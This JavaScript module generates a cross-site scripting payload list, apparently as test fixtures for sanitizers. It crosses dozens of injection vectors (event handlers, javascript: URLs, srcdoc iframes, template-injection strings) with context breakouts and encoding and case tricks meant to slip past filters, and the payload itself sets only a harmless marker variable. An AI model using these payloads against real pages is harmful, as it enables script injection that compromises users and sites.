// Texts that would run `window.__ran = 1` in a page that takes what people write for markup or script: each way in from
// each place that a page may put a text in.

const RUN = "window.__ran=1";

// Ways in: what runs something once it is markup, or where a script or an address is expected.
const WAYS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<body onload="${RUN}">`,
  `<body onpageshow="${RUN}">`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<p tabindex=1 onfocus="${RUN}" id=x></p><a href="#x">x</a>`,
  `<div style="animation: a 1s" onanimationstart="${RUN}"><style>@keyframes a{}</style></div>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<link rel=stylesheet href=x onerror="${RUN}">`,
  `<style onload="${RUN}"></style>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `javascript:${RUN}//`,
  `';${RUN};'`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
];

// Places: what has to end first before the way in is markup, and spellings that a filter may not know.
const PLACES = [
  (way) => way,
  (way) => `">${way}`,
  (way) => `'>${way}`,
  (way) => `</textarea>${way}`,
  (way) => `</title>${way}`,
  (way) => `</script>${way}`,
  (way) => `</style>${way}`,
  (way) => `--> ${way}`,
  (way) => `]]>${way}`,
  (way) => `\\"}]${way}`,
  (way) => way.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)).replaceAll(/window\.__ran=1/gi, RUN),
  (way) => way.replaceAll(" ", "/"),
  (way) => way.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (way) => way.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (way) => encodeURIComponent(way),
  (way) => way.replace(/[<>"']/g, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, "0")}`),
  (way) => `\u001b[31m${way}\u001b[0m`,
  (way) => `\u202e${way}\u2066`,
];

export const HOSTILE_TEXTS = [...new Set(WAYS.flatMap((way) => PLACES.map((place) => place(way))))];
